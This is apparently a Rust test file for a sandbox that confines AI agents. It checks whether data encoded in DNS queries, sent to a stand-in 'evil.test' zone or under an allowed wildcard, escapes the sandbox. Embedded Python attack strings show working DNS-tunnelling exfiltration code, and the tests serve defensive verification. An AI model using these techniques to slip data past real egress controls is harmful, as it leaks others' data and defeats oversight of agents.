//! Names as a way out: what is put into a question to a name server reaches whoever runs the zone.

use std::net::UdpSocket;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use super::range::Range;
use crate::spine::World;
use crate::support::netns::Netns;
use crate::support::process::finish;

/// Questions to any server, of any type, by hand.
#[test]
fn questions_to_a_server_of_ones_own() {
    let range = Range::new();
    let attack = r"
def question(name, kind):
    labels = b''.join(bytes([len(label)]) + label for label in name.encode().split(b'.'))
    return struct.pack('!HHHHHH', 7, 256, 1, 0, 0, 0) + labels + struct.pack('!BHH', 0, kind, 1)
for kind in (1, 16, 28, 65, 10):
    asked = question(mark.hex()[:40] + '.evil.test', kind)
    for port in (53, 5353, 853): sent(lambda: udp().sendto(asked, (there4, port)))
    go(udp(), (there4, 53), asked)
    go(tcp(), (there4, 53), struct.pack('!H', len(asked)) + asked)";
    range.each_stops_of(attack, &[&["as_connect4", "as_sendmsg4"], &["as_egress"]]);
}

/// The system's name server is on the other end of the wire, and knows no name. The policy allows a
/// wildcard; the agent spells data in names below it, below nothing that is allowed, and in questions of
/// other types.
#[test]
fn data_in_names_below_an_allowed_wildcard() {
    let netns = Netns::new();
    let capture = crate::support::capture::Capture::start(&netns);
    let server = NameServer::start(&netns);
    let mut world = World::new();
    world.home.name_server(netns.there4().into());
    world.rules(&[("api.test", world.api.port(), ""), ("\"*.wild.test\"", 443, "")]);
    let attack = r"
import os, socket, sys
def ask(name):
    try: socket.getaddrinfo(name, 443, socket.AF_INET)
    except OSError: pass
for turn in range(120):
    ask('n%d.wild.test' % turn)
    ask(os.urandom(30).hex() + '.wild.test')
    ask('.'.join(os.urandom(8).hex() for _ in range(6)) + '.wild.test')
    ask('evil%d.test' % turn)
print('asked')";
    let asked = |zone: &str| {
        let label: Vec<u8> =
            zone.split('.').flat_map(|label| [&[label.len() as u8], label.as_bytes()].concat()).collect();
        let packets = capture.holding(&label).into_iter().filter(|packet| packet.destination_port == 53);
        packets.map(|packet| packet.payload[12..].to_vec()).collect::<std::collections::BTreeSet<_>>()
    };
    let agent = finish(&mut world.home.run_agent(["/usr/bin/python3", "-c", attack]));
    assert_eq!(agent.ok(), "asked\n");
    let wild = asked("wild.test");
    assert!(!wild.is_empty() && wild.len() <= 40, "{} names left", wild.len());
    assert!(wild.iter().all(|question| question.len() < 40), "long names leave");
    assert!(asked("evil").is_empty());
    let all = capture.packets().into_iter().filter(|packet| packet.destination_port == 53);
    assert!(all.clone().all(|packet| !packet.payload.windows(4).any(|window| window == b"evil")));

    // Outside the sandbox every one of them leaves.
    let mut bare = world.home.beside(["/usr/bin/python3", "-c", attack]);
    assert_eq!(finish(&mut bare).ok(), "asked\n");
    assert!(asked("wild.test").len() > 300, "the attack does not bite: {}", asked("wild.test").len());
    drop(server);
}

/// Answers every question that there is no such name.
struct NameServer(Arc<AtomicBool>, Option<std::thread::JoinHandle<()>>);

impl NameServer {
    fn start(netns: &Netns) -> Self {
        let over = Arc::new(AtomicBool::new(false));
        let (stop, handle, address) = (over.clone(), netns.handle(), netns.there4());
        let (tell, told) = std::sync::mpsc::channel();
        let thread = std::thread::spawn(move || {
            handle.enter();
            let socket = UdpSocket::bind((address, 53)).unwrap();
            socket.set_read_timeout(Some(Duration::from_millis(50))).unwrap();
            tell.send(()).unwrap();
            let mut buffer = [0; 1500];
            while !stop.load(Ordering::Relaxed) {
                let Ok((length, from)) = socket.recv_from(&mut buffer) else { continue };
                // The question as it came, marked as an answer: no such name.
                (buffer[2], buffer[3]) = (0x81, 0x83);
                let _ = socket.send_to(&buffer[..length], from);
            }
        });
        told.recv().unwrap();
        Self(over, Some(thread))
    }
}

impl Drop for NameServer {
    fn drop(&mut self) {
        self.0.store(true, Ordering::Relaxed);
        let _ = self.1.take().map(std::thread::JoinHandle::join);
    }
}
